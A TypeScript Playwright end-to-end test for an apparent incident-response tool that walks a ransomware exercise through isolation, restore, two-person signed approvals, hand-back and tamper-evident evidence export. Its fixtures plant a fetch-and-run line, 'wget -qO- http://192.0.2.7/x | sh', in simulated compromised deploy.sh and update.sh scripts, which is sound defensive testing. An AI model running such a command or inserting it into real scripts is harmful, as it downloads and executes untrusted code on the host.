import assert from 'node:assert/strict'
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'

import type { Locator, Page } from 'playwright-core'

import { needProgram } from '../debian.ts'
import { type Night, type Person, startNight } from './night.ts'
import { violations } from './running-console.ts'

/** A whole exercise, from the declaration to the evidence on a stick, in two browsers. Each test needs those before it. */
const skip = needProgram('chromium', 'chromium')
const tenants = ['nordwind', 'alpenblick', 'hafenkontor', 'lindenhof'] as const
const problems: string[] = []
let night: Night
let folder: string
let lea: Person
let otto: Person
let german: Page

const example = (name: string): string => fileURLToPath(new URL(`../../examples/${name}`, import.meta.url))
const prose = (about: string): string =>
  `${about}\n${'Sehr geehrte Damen und Herren, wie besprochen.\n'.repeat(40)}`

before(async () => {
  if (skip !== false) return
  night = await startNight({
    before: {
      'alpenblick/deploy.sh': '#!/bin/sh\nrsync -a build/ /srv/www/\n',
      'hafenkontor/offer.txt': prose('Hafen'),
      'lindenhof/offer.txt': prose('Linde'),
    },
    after: {
      'alpenblick/deploy.sh': '#!/bin/sh\nrsync -a build/ /srv/www/\nwget -qO- http://192.0.2.7/x | sh\n',
      'hafenkontor/update.sh': '#!/bin/sh\nwget -qO- http://192.0.2.7/x | sh\n',
    },
    workplace(site) {
      const probes = ['files1:445', 'dir1:389', 'mx1:25', 'mbox1:993', 'db1:5432', 'app1:443', 'web1:443']
      const file = site.file(
        'probes.json',
        JSON.stringify(probes.map((target) => ({ target, reached: false }))),
      )
      folder = dirname(file)
      return `plan: ${example('plans/ransomware-hoster.yaml')}\nisolationProof: ${file}\n`
    },
  })
  lea = await night.person('lea', ['lead'])
  otto = await night.person('otto', ['service-owner'])
  german = await night.look(lea, {
    locale: 'de-DE',
    colorScheme: 'dark',
    viewport: { width: 390, height: 844 },
  })
  for (const page of [lea.page, otto.page, german]) {
    page.setDefaultTimeout(20_000)
    page.on('console', (message) => message.type() === 'error' && problems.push(message.text()))
    page.on('pageerror', (error) => problems.push(error.message))
  }
})
after(async () => {
  if (skip === false) await night[Symbol.asyncDispose]()
})

async function open(page: Page, screen: string): Promise<void> {
  await page.goto(`${night.site.url}/cases/night-1/${screen}`)
  await page.getByRole('status').filter({ hasText: 'live' }).waitFor()
}

/** The screen as it is now: no broken rule, neither here nor in German on a phone in the dark; pictures if wanted. */
async function clean(page: Page, name: string): Promise<void> {
  await shot(page, name)
  assert.deepEqual(await violations(page), [], name)
  await german.goto(page.url())
  await german.locator('main h1').waitFor()
  await shot(german, `${name}-de`)
  assert.deepEqual(await violations(german), [], `${name} in German`)
  const width = await german.evaluate<number>('document.documentElement.scrollWidth')
  assert.ok(width <= 390, `${name} is ${width} wide`)
}

/** Pictures for people who look at them, where the environment names a folder. */
async function shot(page: Page, name: string): Promise<void> {
  const pictures = process.env['ANLAUF_SHOTS']
  if (pictures !== undefined) await page.screenshot({ path: join(pictures, `${name}.png`), fullPage: true })
}

interface Wanted {
  readonly title: string
  readonly unit?: string
  /** What the button says where no tenant is named. */
  readonly all?: string
}

/** Asks for work on the screen and waits for its end there. */
async function work(
  page: Page,
  kind: string,
  { title, unit, all = 'all tenants' }: Wanted,
): Promise<Locator> {
  await page.getByRole('combobox', { name: /^Work/ }).selectOption(kind)
  if (unit !== undefined) await page.getByRole('combobox', { name: /^Tenant/ }).selectOption(unit)
  const same = page.locator('.job').filter({ hasText: `${title} · ${unit ?? 'all tenants'}` })
  const already = await same.count()
  await page.getByRole('button', { name: `${title} · ${unit ?? all}` }).click()
  await same.nth(already).waitFor()
  const card = same.first()
  await card.getByText(/^(done|failed)$/).waitFor({ timeout: 60_000 })
  return card
}

async function done(page: Page, kind: string, wanted: Wanted): Promise<Locator> {
  const card = await work(page, kind, wanted)
  await card
    .getByText('done', { exact: true })
    .waitFor({ timeout: 1_000 })
    .catch(async () => {
      assert.fail(`${kind}: ${await card.innerText()}`)
    })
  return card
}

test('declared as an exercise, on the screen', { skip }, async () => {
  const { page } = lea
  await page.goto(`${night.site.url}/declare`)
  await page.getByLabel(/EXERCISE/).check()
  await page.getByLabel('Id of the case').fill('night-1')
  await page.getByLabel('Title').fill('Files turn to noise')
  await page.getByLabel('not before').fill('2026-03-08T00:00')
  await page.getByLabel('not after').fill('2026-03-08T03:00')
  await clean(page, '01-declare')
  await page.getByRole('button', { name: 'Declare the exercise night-1' }).click()
  await page.waitForURL(/\/cases\/night-1/)
})

test('isolation: what probes from a second path measured becomes the proof', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'isolation', { title: 'Record the isolation', all: 'night-1' })
  await open(page, 'now')
  await page.getByText('proven for 7 systems').waitFor()
  await clean(page, '04-now')
})

test('restore points are chosen, and everything is restored, verified and scanned', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'plan', { title: 'Choose restore points' })
  await done(page, 'run', { title: 'Restore, verify and scan' })
  await clean(page, '05-jobs')
  await open(page, 'matrix')
  await page.getByText('4 tenants').first().waitFor()
  await clean(page, '06-matrix')
  await open(page, 'restart')
  await clean(page, '07-restart')
})

test('three programs of that night are decided, one of them by two people', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'queue', { title: 'Collect the case queue', all: 'night-1' })
  await decide('deploy.sh', 'take the version before', { people: 1 })
  await decide('update.sh', 'leave it out', { people: 1 })
  await decide('start.sh', 'take the newest version', { people: 2, typed: 'nordwind' })
  await open(otto.page, 'approvals')
  const card = otto.page.getByRole('article').filter({ hasText: 'Decision about files of nordwind' })
  await sign(otto.page, card)
  await page
    .locator('.queue-detail')
    .getByText(/^decided: take the newest version/)
    .waitFor()
  await clean(page, '08-queue')
})

async function decide(file: string, outcome: string, how: { people: number; typed?: string }): Promise<void> {
  const { page } = lea
  await open(page, 'queue')
  await page.getByRole('button', { name: file }).click()
  await page.getByRole('heading', { name: file }).waitFor()
  await page
    .locator('.queue-detail')
    .getByRole('button', { name: new RegExp(`^\\d?\\s*${outcome}`) })
    .click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel(/^Why/).fill('Compared with the repository of the shop.')
  if (how.typed !== undefined) await dialog.getByLabel(/goes against advice/).fill(how.typed)
  await dialog.getByRole('button', { name: 'Show what is signed' }).click()
  await dialog.locator('.statement').waitFor()
  await dialog.getByRole('button', { name: 'Sign with my passkey' }).click()
  await dialog
    .getByText(how.people === 1 ? 'All signatures are there.' : 'One more person has to sign.')
    .waitFor()
  await dialog.getByRole('button', { name: 'Close' }).click()
}

async function sign(page: Page, card: Locator): Promise<void> {
  const digits = await card.locator('.hash-digits').first().innerText()
  await card.getByRole('button', { name: 'Approve …' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByRole('button', { name: 'Show what is signed' }).click()
  assert.equal(await dialog.locator('.hash-digits').innerText(), digits, 'what is signed is what was shown')
  await dialog.getByRole('button', { name: 'Sign with my passkey' }).click()
  await dialog.getByText('Signed and recorded.').waitFor()
  await dialog.getByRole('button', { name: 'Close' }).click()
}

test('the second pass follows the decisions; without signatures the gate stays shut', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'plan', { title: 'Choose restore points' })
  await done(page, 'run', { title: 'Restore, verify and scan' })
  const card = await work(page, 'release', { title: 'Release', unit: 'nordwind' })
  await card.getByText('failed', { exact: true }).waitFor()
  await card
    .getByText(/approval/i)
    .first()
    .waitFor()
  assert.equal(existsSync(join(folder, 'work/cases/night-1/released/nordwind')), false)
})

test('two people sign the first customer, who is released alone', { skip }, async () => {
  await ask('nordwind')
  for (const { page } of [lea, otto]) {
    await open(page, 'approvals')
    const card = page.getByRole('article').filter({ hasText: 'Release nordwind' })
    if (page === lea.page) await clean(page, '09-approvals')
    await sign(page, card)
  }
  await open(lea.page, 'jobs')
  await done(lea.page, 'release', { title: 'Release', unit: 'nordwind' })
  assert.deepEqual(readdirSync(join(folder, 'work/cases/night-1/released')), ['nordwind'])
})

async function ask(unit: string): Promise<void> {
  const { page } = lea
  await open(page, 'approvals')
  const form = page.locator('form.ask').filter({ hasText: unit })
  await form.getByLabel(/^Why now/).fill('Ready, and the customer waits.')
  await form.getByRole('button', { name: `Ask for the release of ${unit}` }).click()
  await page
    .getByRole('article')
    .filter({ hasText: `Release ${unit}` })
    .waitFor()
}

test('then the rest, and everybody gets the own data back', { skip }, async () => {
  const rest = tenants.slice(1)
  for (const unit of rest) await ask(unit)
  for (const { page } of [lea, otto]) {
    await open(page, 'approvals')
    for (const unit of rest) {
      await sign(page, page.getByRole('article').filter({ hasText: `Release ${unit}` }))
    }
  }
  await open(lea.page, 'jobs')
  for (const unit of rest) await done(lea.page, 'release', { title: 'Release', unit })
  for (const unit of tenants) await done(lea.page, 'handBack', { title: 'Hand back', unit })
  await clean(lea.page, '10-released')
  const given = readdirSync(join(folder, 'work/cases/night-1/handed-back'), { recursive: true }) as string[]
  for (const unit of tenants)
    assert.ok(
      given.some((path) => path.includes(unit)),
      unit,
    )
  const back = (name: string): string | undefined => {
    const path = given.find((one) => one.endsWith(name))
    return path === undefined
      ? undefined
      : readFileSync(join(folder, 'work/cases/night-1/handed-back', path), 'utf8')
  }
  assert.match(back('start.sh') ?? '', /192\.0\.2\.7/, 'two people wanted the newest')
  assert.equal(back('deploy.sh'), '#!/bin/sh\nrsync -a build/ /srv/www/\n', 'the version before')
  assert.equal(back('update.sh'), undefined, 'left out')
})

test('the evidence leaves the house, and a stranger checks it with openssl alone', { skip }, async () => {
  const { page } = lea
  await open(page, 'evidence')
  await page.getByRole('button', { name: 'Verify the whole log' }).click()
  await page.getByText('VERIFIED', { exact: true }).waitFor()
  await clean(page, '12-evidence')
  await open(page, 'jobs')
  await done(page, 'export', { title: 'Export the evidence', all: 'night-1' })
  const bundle = join(folder, 'work/cases/night-1/export-1')
  const said = execFileSync('sh', ['verify.sh'], { cwd: bundle, encoding: 'utf8' })
  assert.match(said, /^VERIFIED/m)
  const file = join(bundle, 'entries.ndjson')
  const bytes = readFileSync(file)
  const place = bytes.indexOf('approval')
  bytes[place] = (bytes[place] ?? 0) ^ 1
  writeFileSync(file, bytes)
  const refused = spawnSync('sh', ['verify.sh'], { cwd: bundle, encoding: 'utf8' })
  assert.notEqual(refused.status, 0, 'one flipped bit')
  assert.doesNotMatch(refused.stdout, /^VERIFIED/m)
})

test('nothing failed in the browsers', { skip }, () => {
  assert.deepEqual(problems, [])
})
